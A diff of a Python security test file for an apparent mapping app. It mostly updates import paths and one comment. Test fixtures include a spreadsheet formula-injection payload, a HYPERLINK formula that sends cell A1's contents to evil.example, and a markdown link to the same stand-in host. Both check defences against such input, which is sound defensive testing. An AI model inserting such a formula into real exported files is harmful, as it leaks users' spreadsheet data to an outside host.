@@ -14,11 +14,11 @@ from shapely.geometry import Point
 
 from geo import export_bytes
 from geo.errors import FileImportError
-from geo.export import export_view, neutralise_formulas, table_csv
-from geo.importer import import_sites
-from geo.query import SiteFilter
-from geo.readers import read_upload
-from geo.viewstate import from_params
+from geo.export.writers import export_view, neutralise_formulas, table_csv
+from geo.ingest.importer import import_sites
+from geo.ingest.readers import read_upload
+from geo.views.query import SiteFilter
+from geo.views.viewstate import from_params
 from tests.security.conftest import layer_captions, outside_code, page, page_texts, shown
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -183,7 +183,7 @@ def test_a_site_name_with_markdown_is_a_plain_header(atlas):
     name = "**Bold** [x](https://evil.example)"
     data = f"name,lat,lon\n{name},30.18,66.97\n".encode()
     at = page(("md.csv", data))
-    at.session_state["site"] = "md-2"  # the selected site (geo/viewstate.py option "site")
+    at.session_state["site"] = "md-2"  # the selected site (geo/views/viewstate.py option "site")
     at.run()
     headers = [h.value for h in at.subheader if "evil" in h.value]
     assert headers and all("evil" not in outside_code(h) for h in headers)
